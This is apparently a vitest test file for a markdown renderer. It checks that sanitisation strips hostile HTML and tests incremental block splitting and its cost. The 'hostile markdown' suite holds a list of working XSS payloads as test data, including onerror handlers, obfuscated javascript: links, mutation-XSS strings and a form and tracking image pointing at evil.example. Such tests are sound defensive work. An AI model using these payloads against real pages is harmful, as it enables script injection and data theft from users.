import { describe, expect, it } from 'vitest';
import { clean, codeFenceOf, escapeHtml, GROUP, NO_BLOCKS, renderBlock, setMathRenderer, splitBlocks, type Blocks } from '@/lib/markdown';

// jsdom has no trusted types: what clean() gives is text here.
const text = (html: TrustedHTML | string): string => {
  if (typeof html !== 'string') throw new TypeError('trusted types in jsdom');
  return html;
};
const markup = (block: string): string => text(renderBlock(block));

const sourcesOf = ({ finished, tail }: Blocks): string[] => [...finished.flat(), tail].map(({ source }) => source);

const page = (text: string): HTMLElement => {
  const element = document.createElement('div');
  for (const block of sourcesOf(splitBlocks(text))) {
    const part = document.createElement('div');
    const fence = codeFenceOf(block);
    if (fence) part.textContent = fence.code;
    else part.insertAdjacentHTML('beforeend', markup(block));
    element.append(part);
  }
  return element;
};

describe('hostile markdown', () => {
  const attacks = {
    'a script': '<script>alert(1)</script>',
    'a script in a word': 'a <img src=x onerror=alert(1)> b',
    'a script in SVG': '<svg><script>alert(1)</script></svg>',
    'SVG that loads': '<svg onload="alert(1)"><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
    'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    'a style': '<style>body{display:none}</style><p style="position:fixed">x</p>',
    'a form': '<form action="https://evil.example"><input name=q><button>go</button></form>',
    'a link to script': '[click](javascript:alert(1))',
    'a link to script, spelled otherwise': '[click](JaVaScRiPt&colon;alert(1)) [click](&#106;avascript:alert(1)) [c](java\tscript:alert(1))',
    'a link to data': '[click](data:text/html,<script>alert(1)</script>)',
    'a link to this server': '[click](/ui-api/drain)',
    'an image that calls home': '![x](https://evil.example/pixel.png?secret)',
    'an image with script': '![x](javascript:alert(1)) ![" onerror="alert(1)](x)',
    'a link with attributes': '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    'HTML in a table': '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    'HTML in a list, a quote, a heading': '- <b onclick=alert(1)>x</b>\n\n> <base href="//evil.example">\n\n# <a href="javascript:alert(1)">h</a>',
    'an unfinished tag': 'x <img src=x onerror=alert(1)',
    'a comment': '<!-- --><img src=x onerror=alert(1)> -->',
    'MathML that is a link': '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    'mutation': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'a reference': '[x][1]\n\n[1]: javascript:alert(1)',
    'an automatic link': '<javascript:alert(1)> http://a.example/"onmouseover="alert(1)',
    'a fence': '```js\n</code></pre><script>alert(1)</script>\n```',
    'the language of a fence': '- ```"><script>alert(1)</script>\n  x\n  ```',
    'classes of the page': '<div class="fixed inset-0">log in again</div>',
  };
  it.each(Object.entries(attacks))('%s becomes no live markup', (_, text) => {
    const element = page(text);
    expect(element.querySelectorAll('script,style,iframe,object,embed,svg,form,button,base,link,meta,img,video,audio,use').length).toBe(0);
    for (const node of element.querySelectorAll('*')) {
      for (const { name, value } of node.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src|^srcdoc$|^id$|^name$/);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
        if (name === 'class') expect(value).toMatch(/^(hljs-|language-)/);
      }
    }
    for (const link of element.querySelectorAll('a[href]')) {
      expect(link.getAttribute('rel')).toContain('noopener');
    }
  });

  it('shows HTML as the text it is', () => {
    expect(page('a <b>bold</b> word').textContent).toContain('<b>bold</b>');
  });

  it('keeps clean() between a highlighter or a formula and the page', () => {
    expect(text(clean('<span class="hljs-keyword">if</span><img src=x onerror=alert(1)>'))).toBe('<span class="hljs-keyword">if</span>');
    setMathRenderer((tex) => `<math><mi>${escapeHtml(tex)}</mi></math><script>alert(1)</script>`);
    const element = page('A formula: $x<y$ and $$\n\\href{javascript:alert(1)}{z}\n$$');
    expect(element.querySelectorAll('math').length).toBe(2);
    expect(element.querySelector('script')).toBeNull();
    expect(element.querySelector('mi')?.textContent).toBe('x<y');
  });

  it('looks at a long class once', () => {
    const began = process.cpuUsage();
    expect(text(clean(`<code class="language-${'hljs-a'.repeat(60)}!">x</code>`))).toBe('<code>x</code>');
    const { user, system } = process.cpuUsage(began);
    expect((user + system) / 1000).toBeLessThan(1000);
  });

  it('takes prices for no formulas', () => {
    expect(page('It costs $5, not $6.').querySelector('math')).toBeNull();
  });
});

describe('blocks', () => {
  const text = '# Title\n\nOne *two*.\n\n- a\n\n- b\n\n```c\nint x;\n\nint y;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd.\n';

  it('hold the whole text, however it came', () => {
    for (let step = 1; step < 9; step++) {
      let blocks: Blocks = NO_BLOCKS;
      for (let n = step; n < text.length + step; n += step) blocks = splitBlocks(text.slice(0, n), blocks);
      expect(sourcesOf(blocks).join('')).toBe(text);
      const shown = sourcesOf(blocks).map(markup).join('');
      expect(shown).toBe(sourcesOf(splitBlocks(text)).map(markup).join(''));
    }
  });

  it('that are finished are never read again', () => {
    let blocks = splitBlocks('One.\n\nTwo.\n\nThr');
    const [first] = blocks.finished.flat();
    for (const more of ['e', 'e.', '\n\n', 'Four']) {
      const before = blocks.finished.flat();
      blocks = splitBlocks(sourcesOf(blocks).join('') + more, blocks);
      expect(blocks.finished.flat().slice(0, before.length)).toEqual(before);
    }
    expect(blocks.finished.flat()[0]).toBe(first);
  });

  it('are in groups, of which a full one is never made anew', () => {
    let blocks: Blocks = NO_BLOCKS;
    let text = '';
    for (let n = 0; n < 60; n++) {
      const before = blocks;
      text += n % 3 ? `Block ${n}.\n\n` : `Block ${n}.\n\n`.repeat(n);
      blocks = splitBlocks(text, before);
      before.finished.filter(({ length }) => length === GROUP).forEach((group, at) => expect(blocks.finished[at]).toBe(group));
      expect(blocks.finished.slice(0, -1).every(({ length }) => length === GROUP)).toBe(true);
      expect(blocks.finished.at(-1)?.length ?? 1).toBeGreaterThan(0);
      expect(blocks.finished.at(-1)?.length ?? 1).toBeLessThanOrEqual(GROUP);
    }
    expect(blocks.finished.flat()).toEqual(splitBlocks(text).finished.flat());
  });

  it('know of a formula from the piece that brings it on', () => {
    let blocks = splitBlocks('It costs $ 5.\n\nAnd');
    expect(blocks.math).toBe(false);
    for (const more of [' then $x', '$ is y.', '\n\nEnd.\n\n', 'End.']) {
      blocks = splitBlocks(blocks.text + more, blocks);
      expect(blocks.math).toBe(true);
    }
    expect(splitBlocks('Other.', blocks).math).toBe(false);
  });

  it('of another text begin anew', () => {
    const blocks = splitBlocks('Other.\n\nText.', splitBlocks('One.\n\nTwo.\n\nThree.'));
    expect(sourcesOf(blocks).join('')).toBe('Other.\n\nText.');
  });

  it('cost the same at the end of a long text as at its beginning', () => {
    const paragraph = 'Some words of a paragraph that is neither short nor long.\n\n';
    let whole = paragraph.repeat(4000);
    let blocks = splitBlocks(whole);
    const began = process.cpuUsage();
    for (let n = 0; n < 200; n++) {
      whole += 'word ';
      blocks = splitBlocks(whole, blocks);
    }
    const { user, system } = process.cpuUsage(began);
    expect((user + system) / 1000 / 200).toBeLessThan(16);
    expect(blocks.finished.flat().length).toBeGreaterThan(3999);
  });
});
